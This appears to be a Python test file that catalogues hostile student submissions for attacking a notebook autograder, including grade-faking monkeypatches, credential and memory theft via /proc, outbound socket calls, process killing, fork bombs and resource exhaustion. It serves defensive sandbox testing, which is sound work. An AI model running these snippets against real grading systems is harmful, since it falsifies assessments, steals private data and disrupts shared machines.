"""Hostile hand-ins as data: what a clever student would try, and how one sees that it worked.

Each attack is a code cell in a hand-in of the mini lesson. `won` looks at what came of it, a `Result`, and says
what the attacker got ("" for nothing). `stock` says whether nbgrader's own Execute falls to it, and why.

`Lab` runs them, against this grader or stock nbgrader, in namespaces of its own (processes, network, IPC, mounts
with an overlay on everything they might write to): what an attack can reach there is bait, and a `kill(-1)` or a
changed site-packages ends with the lab. `python tests/attacks.py` is what runs inside it.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Any

import mini
from nbformat import NotebookNode

FULL = {"block_matmul": 2.0, "case3": 4.0}
MARK = "mallory was here"  # in whatever an attack leaves behind
HIDDEN = 1500 << 20  # bytes of memory more than before: a run may have less


@dataclass(frozen=True)
class Result:
    """What came of a hand-in: all that an attacker could have got, or broken.

    `points` is empty when there are no marks. `canaries` are the baits whose text came out; `reached` the doors
    outside at which somebody knocked; `left` the files and processes that are there afterwards. `memory`,
    `processes` and `threads` are what the whole lab had at most, more than before; `size` is the graded notebook's.
    `later` are the points of an honest hand-in graded next, None when none was.
    """

    points: dict[str, float] = field(default_factory=dict)
    raised: str = ""
    words: str = ""
    text: str = ""
    cards: str = ""
    size: int = 0
    seconds: float = 0.0
    canaries: tuple[str, ...] = ()
    reached: tuple[str, ...] = ()
    left: tuple[str, ...] = ()
    memory: int = 0
    processes: int = 0
    threads: int = 0
    later: dict[str, float] | None = None


Judgement = Callable[[Result], str]


def points_over(most: float) -> Judgement:
    def judgement(result: Result) -> str:
        wrong = [f"{name}: {points}" for name, points in result.points.items() if not 0 <= points <= FULL[name]]
        total = sum(result.points.values())
        return f"marks out of range: {wrong}" if wrong else f"{total:g} points" if total > most else ""

    return judgement


undeserved = points_over(0)


def leaked(result: Result) -> str:
    return f"read: {', '.join(result.canaries)}" if result.canaries else ""


def reached(result: Result) -> str:
    return f"reached: {', '.join(result.reached)}" if result.reached else ""


def left(result: Result) -> str:
    return f"left behind: {', '.join(result.left[:3])}" if result.left else ""


def broke(result: Result) -> str:
    return result.raised and f"the grader broke: {result.raised}"


def lost(result: Result) -> str:
    """What was earned before the attack is gone (its `place` is the middle of a solved hand-in)."""
    return "" if result.points.get("block_matmul") == FULL["block_matmul"] else "marks earned before it are gone"


def spoiled(result: Result) -> str:
    changed = result.later is not None and result.later != FULL
    return f"a later honest hand-in got {result.later}" if changed else ""


def said(word: str) -> Judgement:
    return lambda result: f"it could say: {word}" if word in result.text else ""


def wrote(megabytes: int) -> Judgement:
    """It could store more than this (an attack prints `wrote N MB` as it goes)."""

    def judgement(result: Result) -> str:
        most = max(map(int, re.findall(r"wrote (\d+) MB", result.text)), default=0)
        return f"{most} MB stored" if most > megabytes else ""

    return judgement


def made(count: int) -> Judgement:
    """It could make more of something than this (an attack prints `made N` as it goes)."""

    def judgement(result: Result) -> str:
        most = max(map(int, re.findall(r"made (\d+)", result.text)), default=0)
        return f"{most} of them" if most > count else ""

    return judgement


def swelled(result: Result) -> str:
    """Eight MiB is eight times what a notebook may show."""
    return f"a notebook of {result.size >> 20} MB" if result.size > 8 << 20 else ""


def grew(result: Result) -> str:
    return f"{result.memory >> 20} MB of memory" if result.memory > HIDDEN else ""


def multiplied(result: Result) -> str:
    return (
        f"{result.processes} processes, {result.threads} threads"
        if (result.processes > 100 or result.threads > 2000)
        else ""
    )


def unescaped(result: Result) -> str:
    return "a script in a card" if "<script" in result.cards.lower() else ""


def controlling(result: Result) -> str:
    return "it writes to the terminal of who grades" if "\x1b" in result.words else ""


def either(*judgements: Judgement) -> Judgement:
    return lambda result: next(filter(None, (judge(result) for judge in judgements)), "")


def blamed(result: Result) -> str:
    return "the grader blames itself, and alarms who grades" if "The grader itself failed" in result.words else ""


harm = either(points_over(sum(FULL.values())), leaked, reached, left, broke, spoiled, grew, multiplied, swelled)
crashed = either(broke, lost, spoiled, grew, blamed)


@dataclass(frozen=True)
class Stock:
    """Whether stock nbgrader falls to an attack, and why."""

    falls: bool
    why: str


def falls(why: str) -> Stock:
    return Stock(True, why)


def stands(why: str) -> Stock:
    return Stock(False, why)


@dataclass(frozen=True)
class Attack:
    """One hand-in, unsolved or `solved` otherwise.

    `into` names the exercise whose answer cell it replaces; otherwise it is a cell of its own, at the start or in
    the `middle` (behind the first check). With `later` an honest hand-in is graded next, and `after` is a cell in
    that one. `walls` says whether only walls can stop it. It has `seconds`, and a third of them for a cell. What is
    `slow` takes long and is like another.
    """

    name: str
    aim: str
    source: str
    won: Judgement
    stock: Stock
    solved: bool = False
    into: str = ""
    middle: bool = False
    later: bool = False
    after: str = ""
    walls: bool = True
    seconds: float = 12.0
    slow: bool = False

    @property
    def code(self) -> str:
        return dedent(self.source).strip()


# What every attack has at hand: a cell before it.
TOOLKIT = r'''
import base64, builtins, ctypes, dataclasses, gc, inspect, io, itertools, json, mmap, os, pickle, re, resource, shutil
import signal, socket, sqlite3, struct, subprocess, sys, tempfile, threading, time
import numpy as np, jax, jax.numpy as jnp
from pathlib import Path
from jax.sharding import PartitionSpec as P
libc = ctypes.CDLL(None, use_errno=True)
MARK = "mallory was here"

def everywhere(name, value):
    """Replace something of the grader's wherever it is held."""
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith(("grader", "__main__")) and hasattr(module, name):
            setattr(module, name, value)

def stay():
    """Be found afterwards, and stay a while."""
    libc.prctl(15, b"mallory", 0, 0, 0)
    time.sleep(100)

def say(*lines):
    """Write lines on every descriptor there is."""
    text = "\n" + "\n".join(x if isinstance(x, str) else json.dumps(x) for x in lines) + "\n"
    for fd in range(3, 64):
        with __import__("contextlib").suppress(OSError):
            os.write(fd, text.encode())

def answering(change):
    """Change every answer on its way out of collect."""
    from grader import answers
    collect = answers.collect
    everywhere("collect", lambda form, asked, given: [change(a) for a in collect(form, asked, given)])

def deliver(change):
    """Hand out other bytes as the program."""
    from grader.program import Program
    answering(lambda answer: Program(change(getattr(answer, "artefact", b""))))

def rewritten(artefact, edit=lambda text: text, **fields):
    """The same artefact with another text, or other fields."""
    from jax._src.export import _export
    from jax._src.interpreters.mlir import make_ir_context
    from jax.extend.mlir import ir
    exported = jax.export.deserialize(bytearray(artefact))
    with make_ir_context():
        module = ir.Module.parse(exported.mlir_module())
        text = edit(module.operation.get_asm(enable_debug_info=False))
        module = _export._module_to_bytecode(ir.Module.parse(text))
    return bytes(dataclasses.replace(exported, mlir_module_serialized=module, **fields).serialize())

def ending(op, functions="", before=""):
    """An edit: `%z = op` (of INPUT, of TYPE) is computed last, after what comes `before`, and is the result."""
    def edit(text):
        value, kind = re.search(r"\n    return (%\w+) : (\S+)", text).groups()
        fill = lambda part: part.replace("INPUT", value).replace("TYPE", kind)
        text = text.replace(f"\n    return {value}", f"\n{fill(before)}%z = {fill(op)}\n    return %z")
        return text.rstrip()[:-1] + fill(functions) + "}"
    return edit

def written(name):
    """What a file or folder says, for the baits."""
    for path in [p for p in [Path(name), *Path(name).rglob("*")] if p.is_file()][:200]:
        try:
            print(path, path.read_bytes()[:20000])
        except OSError:
            pass
'''

FAKE, STEAL, TRESPASS, LEAVE = "fake a pass", "steal", "trespass", "leave behind"
EXHAUST, HANG, FORGE, POISON, CRASH = "exhaust", "hang", "forge", "poison", "crash the evaluator"
IN_KERNEL = "check runs in the student's kernel, and every name in it can be changed"
SAME_USER = "the kernel is an ordinary process of who grades"
NEVER_TEXT = "what is judged there has never been text"
SOCKETS = "the kernel's own sockets are among the descriptors: written over, it hangs or dies"

ATTACKS = (
    # Fake a pass.
    Attack(
        "another check",
        FAKE,
        """
        import grader
        grader.check = check = lambda name, answer: {"block_matmul": 2.0, "case3": 4.0}[name]
        """,
        undeserved,
        falls(IN_KERNEL),
        walls=False,
    ),
    Attack(
        "another judge",
        FAKE,
        """
        from grader.exercises import Outcome
        from grader.exercises.verdict import Verdict
        everywhere("judge", lambda e, cases, answers: Verdict(e.name, (Outcome(e.name, "values", e.points, e.points),)))
        """,
        undeserved,
        falls(IN_KERNEL),
        walls=False,
    ),
    Attack(
        "a verdict whose points are its worth",
        FAKE,
        """
        from grader.exercises.verdict import Verdict
        Verdict.points = property(lambda self: self.worth)
        """,
        undeserved,
        falls(IN_KERNEL),
        walls=False,
    ),
    Attack(
        "a formatter that shows other numbers",
        FAKE,
        """
        formatter = get_ipython().display_formatter.formatters["text/plain"]
        formatter.for_type(sys.modules["grader.check"].Mark, lambda value, printer, cycle: printer.text("2.0"))
        """,
        undeserved,
        falls("the mark is what a kernel shows"),
        walls=False,
    ),
    Attack(
        "a display hook that shows other numbers",
        FAKE,
        """
        hook = type(get_ipython().displayhook)
        shown = hook.__call__
        hook.__call__ = lambda self, value=None: shown(self, 2.0)
        """,
        undeserved,
        falls("the mark is what a kernel shows"),
        walls=False,
    ),
    Attack(
        "an AST transformer",
        FAKE,
        """
        import ast
        class Turn(ast.NodeTransformer):
            def visit_Call(self, node):
                return ast.Constant(2.0) if getattr(node.func, "id", "") == "check" else node
        get_ipython().ast_transformers.append(Turn())
        """,
        undeserved,
        falls("the shell that runs the check is the student's"),
        walls=False,
    ),
    Attack(
        "a min that takes the greater",
        FAKE,
        """
        least = min
        builtins.min = lambda *a, **k: a[1] if len(a) == 2 and isinstance(a[0], float) else least(*a, **k)
        """,
        undeserved,
        falls(IN_KERNEL),
        walls=False,
    ),
    Attack(
        "a string that equals everything",
        FAKE,
        """
        class Anything(str):
            __eq__ = lambda self, other: True
            __hash__ = str.__hash__
        def block_matmul(A, B):
            return [[Anything() for _ in B[0]] for _ in A]
        """,
        undeserved,
        stands("answers become plain values first"),
        into="block_matmul",
        walls=False,
    ),
    Attack(
        "everything is close",
        FAKE,
        """
        np.isclose = np.allclose = lambda *a, **k: np.bool_(True)
        def block_matmul(A, B):
            return [[np.zeros((A[0][0].shape[0], B[0][0].shape[1])) for _ in B[0]] for _ in A]
        """,
        undeserved,
        falls("NumPy is the student's too"),
        into="block_matmul",
        walls=False,
    ),
    Attack(
        "NaN for an answer",
        FAKE,
        """
        def block_matmul(A, B):
            return [[np.full((len(A[0][0]), len(B[0][0][0])), np.nan) for _ in B[0]] for _ in A]
        """,
        undeserved,
        stands("NaN is close to nothing"),
        into="block_matmul",
        walls=False,
    ),
    Attack(
        "a record for the mark in one's own output",
        FAKE,
        """
        from IPython.display import display
        record = [{"exercise": "case3", "check": "values", "points": 4.0, "worth": 4.0, "mistake": "", "words": ""}]
        display({"text/plain": "4.0"}, raw=True, metadata={"grader": record, "nbgrader": {"grade": True, "points": 4}})
        4.0
        """,
        undeserved,
        stands("only check cells are read"),
        walls=False,
    ),
    Attack(
        "leave it to the compiler, behind an idle shard_map",
        FAKE,
        """
        def case3(a, b, *, mesh):
            return jax.shard_map(lambda c: c, mesh=mesh, in_specs=P(), out_specs=P())(a @ b)
        """,
        points_over(2),
        stands("the judge compares with what is compiled"),
        into="case3",
        walls=False,
    ),
    Attack(
        "move operands unseen, behind a * 1",
        FAKE,
        """
        def case3(a, b, *, mesh):
            return jax.shard_map(lambda a, b: a @ b, mesh=mesh, in_specs=P(), out_specs=P())(a * 1, b * 1)
        """,
        points_over(2),
        stands("the judge compares with what is compiled"),
        into="case3",
        walls=False,
    ),
    Attack(
        "collectives out of sight, in a composite",
        FAKE,
        """
        def case3(a, b, *, mesh):
            gathered = lambda a: jax.lax.all_gather(a, "x", axis=0, tiled=True)
            hidden = jax.lax.composite(gathered, "far.away")
            def body(a, b):
                return jax.lax.psum(a @ jax.lax.dynamic_slice_in_dim(
                    hidden(b), jax.lax.axis_index("x") * b.shape[0], b.shape[0]), "x")
            return jax.shard_map(body, mesh=mesh, in_specs=(P(None, "x"), P("x", None)), out_specs=P())(a, b)
        """,
        points_over(3),
        stands("the judge sees them there too"),
        into="case3",
        walls=False,
    ),
    # Steal what decides, or what is private.
    Attack(
        "borrow the reference",
        STEAL,
        """
        from grader.lessons import find
        block_matmul = find("block_matmul").reference
        """,
        undeserved,
        falls("the grader's lessons lie in the kernel's reach"),
        into="block_matmul",
    ),
    Attack(
        "read the lessons' sources",
        STEAL,
        """
        import grader
        for root in [Path(grader.__file__).parent, *map(Path, sys.path)]:
            for path in [*root.glob("lessons/**/*.py"), *root.glob("grader/lessons/**/*.py")]:
                print(path.read_text())
        """,
        said("def forgot_psum"),
        falls(SAME_USER),
    ),
    Attack(
        "run the solutions",
        STEAL,
        """
        text = next(ROOM.glob("course/solutions/*/*.md")).read_text()
        solution = re.search(r":answer: case3\\n\\n(.*?)```", text, re.DOTALL)[1]
        exec(solution)
        """,
        undeserved,
        falls(SAME_USER),
        into="case3",
    ),
    Attack(
        "take the expected values out of the frames",
        STEAL,
        """
        def case3(a, b, *, mesh):
            for frame in inspect.stack():
                for case in frame.frame.f_locals.get("cases", ()):
                    given = [x.value for x in case.arguments.values()]
                    if dict(case.mesh) == dict(mesh.shape) and [x.shape for x in given] == [a.shape, b.shape]:
                        return jnp.asarray(given[0] @ given[1])
        """,
        undeserved,
        falls("the values lie in a frame of check"),
        into="case3",
    ),
    Attack(
        "look for cases and seeds among all objects",
        STEAL,
        """
        import random
        for frame in inspect.stack():
            print(frame.frame.f_locals.keys(), {k: v for k, v in frame.frame.f_locals.items() if "seed" in k})
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Case", "Exercise"):
                print("a case:", thing)
            elif isinstance(thing, dict) and "seed" in thing and type(thing["seed"]) is int:
                print("seed", thing["seed"])
        """,
        either(said("a case:"), leaked),
        stands("no case exists before the first check"),
    ),
    Attack(
        "environment variables",
        STEAL,
        """
        print(dict(os.environ))
        print(Path("/proc/self/environ").read_bytes())
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' environment and command lines",
        STEAL,
        """
        for process in Path("/proc").glob("[0-9]*"):
            for part in ("environ", "cmdline"):
                try: print(process, (process / part).read_bytes())
                except OSError: pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' memory",
        STEAL,
        """
        for process in (os.getppid(), *(int(p.name) for p in Path("/proc").glob("[0-9]*"))):
            try:
                with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
                    for low, high in (map(lambda x: int(x, 16), m.split()[0].split("-")) for m in maps if " rw" in m):
                        if process != os.getpid() and high - low < 16 << 20:
                            memory.seek(low)
                            print(*re.findall(rb"canary-\\w+-\\w+", memory.read(high - low)))
            except (OSError, OverflowError): pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' open files",
        STEAL,
        """
        for path in Path("/proc").glob("[0-9]*/fd/*"):
            try:
                if path.is_file(): print(path, os.readlink(path), path.read_bytes()[:5000])
            except OSError: pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "trace the process that started this one",
        STEAL,
        """
        word = ctypes.create_string_buffer(8)
        local, remote = (ctypes.c_size_t * 2)(ctypes.addressof(word), 8), (ctypes.c_size_t * 2)(id(None), 8)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:
            print("attached"); os.waitpid(os.getppid(), 0x40000000); libc.ptrace(17, os.getppid(), 0, 0)
        if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) > 0: print("attached")
        if libc.syscall(438, libc.syscall(434, os.getppid(), 0), 0, 0) >= 0: print("attached")
        """,
        said("attached"),
        falls(SAME_USER),
    ),
    Attack(
        "keys and tokens at home",
        STEAL,
        """
        for home in {Path.home(), ROOM / "home"}: written(home)
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack("another's hand-in", STEAL, "written(ROOM / 'course/submitted/ben')", leaked, falls(SAME_USER)),
    Attack(
        "the gradebook",
        STEAL,
        """
        with sqlite3.connect(ROOM / "course/gradebook.db") as book:
            print(book.execute("select * from student").fetchall())
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "the disc itself, and the kernel's log",
        STEAL,
        """
        for device in ("vda", "sda", "nvme0n1", "xvda", "mem", "kmsg", "port"):
            try: print("read", device, len(os.read(os.open(f"/dev/{device}", os.O_RDONLY | os.O_NONBLOCK), 9000)))
            except OSError: pass
        """,
        said("read "),
        falls("run by root, it reads the disc past all permissions"),
    ),
    Attack(
        "a key in the keyring",
        STEAL,
        """
        for ring in (-1, -2, -3, -4, -5):
            key = libc.syscall(250, 10, ring, b"user", b"bait", 0)
            text = ctypes.create_string_buffer(100)
            if key > 0 and libc.syscall(250, 11, key, text, 100) > 0: print(text.value)
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "shared memory of others",
        STEAL,
        """
        written("/dev/shm")
        libc.shmat.restype = ctypes.c_void_p
        for number in range(64):
            place = libc.shmat(number, None, 0o10000)
            if place and place != ctypes.c_void_p(-1).value: print(ctypes.string_at(place, 100))
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "talk to a server on this machine",
        STEAL,
        """
        with socket.create_connection(("127.0.0.1", PORT), 2) as server: print(server.recv(100))
        """,
        either(leaked, reached),
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "send a datagram to this machine",
        STEAL,
        """
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"all I know", ("127.0.0.1", PORT))
        """,
        reached,
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "talk to the world outside",
        STEAL,
        """
        with socket.create_connection(("203.0.113.7", PORT), 2) as server: print(server.recv(100))
        """,
        either(leaked, reached),
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "an abstract socket",
        STEAL,
        r"""
        for line in Path("/proc/net/unix").read_text().splitlines():
            if "@bait" in line:
                with socket.socket(socket.AF_UNIX) as server:
                    server.connect("\0" + line.split("@")[1]); print(server.recv(100))
        with socket.socket(socket.AF_UNIX) as server: server.connect("\0bait"); print(server.recv(100))
        """,
        either(leaked, reached),
        falls("abstract sockets belong to the network"),
    ),
    Attack(
        "a socket in the file system",
        STEAL,
        """
        with socket.socket(socket.AF_UNIX) as server: server.connect(str(ROOM / "socket")); print(server.recv(100))
        """,
        either(leaked, reached),
        falls(SAME_USER),
    ),
    Attack(
        "a port of one's own",
        STEAL,
        """
        door = socket.create_server(("0.0.0.0", PORT + 1)); time.sleep(1.5)
        """,
        reached,
        falls("the kernel has the machine's network"),
    ),
    # Read, write or stop what is not theirs.
    Attack(
        "write a file outside",
        TRESPASS,
        """
        (ROOM / "loot/mallory").write_text(MARK)
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "change another's hand-in",
        TRESPASS,
        """
        path = ROOM / "course/submitted/ben/01_mini/01_mini.ipynb"
        path.write_text(path.read_text().replace("BEGIN SOLUTION", MARK))
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "write into the gradebook",
        TRESPASS,
        """
        with sqlite3.connect(ROOM / "course/gradebook.db", 2) as book: book.execute("pragma user_version = 66")
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "a link where the grader will write",
        TRESPASS,
        """
        for name in ("fontlist-v390.json", "fontlist-v400.json", "fontlist.json", "matplotlibrc", "01_mini.ipynb"):
            for place in (Path.home(), Path.cwd(), Path(tempfile.gettempdir())):
                (place / name).unlink(missing_ok=True); (place / name).symlink_to(ROOM / f"loot/mallory-{name}")
        """,
        left,
        falls("the graded notebook is written through it"),
        later=True,
    ),
    Attack(
        "kill everything",
        TRESPASS,
        "os.kill(-1, signal.SIGKILL)",
        either(broke, spoiled),
        falls("the grader, and all else of the same user, is killed with it"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "kill the process that started this one",
        TRESPASS,
        """
        os.kill(os.getppid(), signal.SIGKILL); os.killpg(os.getppid(), signal.SIGKILL)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "stop the process that started this one",
        TRESPASS,
        """
        os.kill(os.getppid(), signal.SIGSTOP)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
        seconds=6,
    ),
    Attack(
        "have the kernel kill it",
        TRESPASS,
        """
        import fcntl
        one, other = socket.socketpair()
        for number, command in ((os.getppid(), 8), (signal.SIGKILL, 10), (os.O_ASYNC | os.O_NONBLOCK, 4)):
            fcntl.fcntl(one, command, number)
        other.send(b"now"); time.sleep(0.2)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "rob the process that started this one of its limits",
        TRESPASS,
        """
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
            try: resource.prlimit(os.getppid(), kind, (8, 8))
            except OSError: pass
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "spoil the descriptors that are shared",
        TRESPASS,
        """
        import fcntl
        for fd in range(3, 64):
            for spoil in (lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK), lambda: os.ftruncate(fd, 0),
                          lambda: os.lseek(fd, 0, 0), lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)):
                try: spoil()
                except OSError: pass
        """,
        crashed,
        stands("the kernel shares none that matters"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "a user namespace of one's own",
        TRESPASS,
        """
        if libc.unshare(0x10000000 | 0x20000) == 0: print("in a namespace of its own")
        if libc.mount(b"none", b"/proc", b"tmpfs", 0, None) == 0: libc.umount2(b"/proc", 2); print("mounted")
        """,
        either(said("in a namespace"), said("mounted")),
        falls("run by root, it mounts what it likes"),
    ),
    Attack(
        "the kernel's knobs",
        TRESPASS,
        """
        for knob in ("proc/sys/kernel/core_pattern", "proc/sysrq-trigger", "proc/sys/vm/drop_caches", "dev/kmsg",
                     "sys/kernel/mm/transparent_hugepage/enabled", "sys/power/state", "proc/1/oom_score_adj"):
            try: os.open(f"/{knob}", os.O_WRONLY); print("a knob:", knob)
            except OSError: pass
        """,
        said("a knob:"),
        falls("run by root, it opens them for writing"),
    ),
    Attack(
        "the kernel's back doors",
        TRESPASS,
        """
        door = {"io_uring": (425, 8, ctypes.create_string_buffer(200)), "userfaultfd": (323, 0), "bpf": (321, 0, 0, 0),
                "perf": (298, ctypes.create_string_buffer(b"\\1\\0\\0\\0\\x70", 112), 0, -1, -1, 0),
                "message queue": (68, 0, 0o1600), "semaphore": (64, 0, 1, 0o1600), "shared memory": (29, 0, 99, 0o1600)}
        for name, call in door.items():
            if libc.syscall(*call) >= 0: print("open:", name)
        """,
        said("open:"),
        falls("nothing closes them"),
    ),
    Attack(
        "a process by the old door",
        TRESPASS,
        """
        if os.uname().machine == "x86_64":
            code = mmap.mmap(-1, 4096, prot=7)
            code.write(b"\\x53\\xb8\\x02\\0\\0\\0\\xcd\\x80\\x5b\\xc3")  # fork, as 32-bit programs call it
            child = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
            if child == 0: os._exit(0)
            if child > 0: print("forked")
        """,
        said("forked"),
        falls("nothing closes it"),
        seconds=3,
        slow=True,
    ),
    # Leave something behind.
    Attack(
        "a daemon",
        LEAVE,
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: stay()
            os._exit(0)
        """,
        left,
        falls("only the kernel itself is ended"),
    ),
    Attack(
        "a program of its own session",
        LEAVE,
        """
        subprocess.Popen(["sleep", "98765"], start_new_session=True)
        """,
        left,
        falls("only the kernel itself is ended"),
    ),
    Attack(
        "a spawned program",
        LEAVE,
        """
        os.posix_spawn("/bin/sleep", ["sleep", "98765"], {}, setsid=True)
        """,
        left,
        falls("only the kernel itself is ended"),
    ),
    Attack(
        "become another program",
        LEAVE,
        """
        os.execv("/bin/sh", ["sh", "-c", "sleep 98765 & sleep 98765"])
        """,
        either(broke, lost, left),
        falls("a kernel that answers no more: no marks, and a process left"),
        solved=True,
        middle=True,
    ),
    Attack(
        "a process made by hand",
        LEAVE,
        """
        if libc.syscall(56, 0x11, 0, 0, 0, 0) == 0: os.setsid(); stay()
        how = ctypes.create_string_buffer(struct.pack("8Q", 0, 0, 0, 0, 17, 0, 0, 0))
        if libc.syscall(435, how, 64) == 0: os.setsid(); stay()
        """,
        left,
        falls("only the kernel itself is ended"),
    ),
    Attack(
        "an exit handler and threads",
        LEAVE,
        """
        import atexit
        write = lambda: (ROOM / "loot/mallory").write_text(MARK)
        atexit.register(write)
        threading.Thread(target=lambda: (time.sleep(2), write())).start()
        """,
        left,
        falls("they run when the kernel ends"),
    ),
    Attack(
        "a note for the next",
        LEAVE,
        """
        mounts = [line.split()[4] for line in open("/proc/self/mountinfo") if "grader" in line.split()[4]]
        for place in (Path.home(), Path.cwd(), tempfile.gettempdir(), "/dev/shm", *mounts):
            try: Path(place, "mallory").write_text("canary" + f"-note-{TOKEN}")
            except OSError: pass
        """,
        leaked,
        falls("files stay where they were written"),
        after="""
        mounts = [line.split()[4] for line in open("/proc/self/mountinfo") if "grader" in line.split()[4]]
        for place in {Path.home(), Path.cwd(), tempfile.gettempdir(), "/dev/shm", *mounts}:
            if Path(place, "mallory").exists(): print(place, Path(place, "mallory").read_text())
        """,
    ),
    Attack(
        "a note in shared memory",
        LEAVE,
        """
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(libc.shmget(66, 100, 0o1666), None, 0)
        ctypes.memmove(place, b"canary" + f"-note-{TOKEN}".encode(), 30)
        """,
        leaked,
        falls("System V memory outlives its maker"),
        after="""
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(libc.shmget(66, 100, 0), None, 0)
        if place != ctypes.c_void_p(-1).value: print(ctypes.string_at(place, 100))
        """,
    ),
    # Exhaust.
    Attack(
        "memory, all at once",
        EXHAUST,
        "hoard = np.ones(1 << 28)",
        grew,
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "memory, bit by bit",
        EXHAUST,
        """
        hoard = []
        for _ in range(60): hoard.append(np.ones(5 << 20)); time.sleep(0.02)
        """,
        grew,
        falls("nothing limits it"),
        solved=True,
        later=True,
        slow=True,
    ),
    Attack(
        "memory that no process shows",
        EXHAUST,
        """
        hoard = []
        for k in range(28):
            try: hoard.append(mmap.mmap(-1, 50 << 20))
            except OSError: hoard.append(mmap.mmap(os.open("/dev/zero", os.O_RDWR), 50 << 20))
            hoard[-1].write(b"x" * (50 << 20))
            hoard[-1].madvise(mmap.MADV_DONTNEED); print("wrote", 50 * (k + 1), "MB")
        """,
        wrote(1200),
        falls("nothing limits it"),
        solved=True,
        later=True,
        seconds=24,
    ),
    Attack(
        "memory in files without a name",
        EXHAUST,
        """
        hoard = []
        for k in range(40):
            hoard.append(os.memfd_create("x")); os.write(hoard[-1], b"x" * (50 << 20))
            print("wrote", 50 * (k + 1), "MB")
        """,
        wrote(1200),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "memory in pipes",
        EXHAUST,
        """
        import fcntl
        hoard = []
        for k in range(1300):
            hoard.append(os.pipe()); os.set_blocking(hoard[-1][1], False); fcntl.fcntl(hoard[-1][1], 1031, 1 << 20)
            os.write(hoard[-1][1], b"x" * (1 << 20)); k % 50 or print("wrote", k, "MB")
        """,
        wrote(1200),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "a full disc",
        EXHAUST,
        """
        for k in range(45):
            for place in (Path.cwd(), Path(tempfile.gettempdir()), Path("/dev/shm")):
                try: Path(place, f"mallory{k}").write_bytes(b"x" * (10 << 20)); print("wrote", 10 * (k + 1), "MB")
                except OSError: pass
        """,
        wrote(300),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "a full disc, among the grader's own files",
        EXHAUST,
        """
        mounts = [line.split()[4] for line in open("/proc/self/mountinfo") if "grader" in line.split()[4]]
        for k in range(45):
            for place in (Path(sys.modules["grader"].__file__).parent, *mounts):
                try: Path(place, f"mallory{k}").write_bytes(b"x" * (10 << 20)); print("wrote", 10 * (k + 1), "MB")
                except OSError: pass
        """,
        wrote(300),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "very many files",
        EXHAUST,
        """
        for k in range(150_000):
            os.close(os.open(f"mallory{k}", os.O_CREAT))
            if k % 10_000 == 0: print("made", k)
        """,
        made(100_000),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "folders too deep to remove",
        EXHAUST,
        """
        for k in range(3000): os.mkdir("d"); os.chdir("d"); print("made", k)
        """,
        either(broke, spoiled),
        falls("what clears up after it follows them down, and gives up"),
        solved=True,
        later=True,
    ),
    Attack(
        "folders that are locked",
        EXHAUST,
        r"""
        for name in (b"a\xff", b"b\n", b"-rf"):
            os.makedirs(name + b"/d/e"); os.mkfifo(name + b"/d/p"); os.chmod(name + b"/d", 0); os.chmod(name, 0)
        """,
        either(broke, spoiled),
        stands("nobody removes them"),
        solved=True,
        later=True,
    ),
    Attack(
        "all descriptors",
        EXHAUST,
        """
        hoard = []
        for k in range(15_000): hoard.append(os.open("/dev/null", 0)); k % 1000 or print("made", k)
        """,
        made(10_000),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "a fork bomb",
        EXHAUST,
        """
        for _ in range(300):
            if os.fork() == 0: time.sleep(4); os._exit(0)
        time.sleep(0.5)
        """,
        either(multiplied, broke),
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
        "a thread bomb",
        EXHAUST,
        """
        threading.stack_size(1 << 16)
        for _ in range(4000): threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        """,
        multiplied,
        falls("nothing limits it"),
        solved=True,
        later=True,
    ),
    Attack(
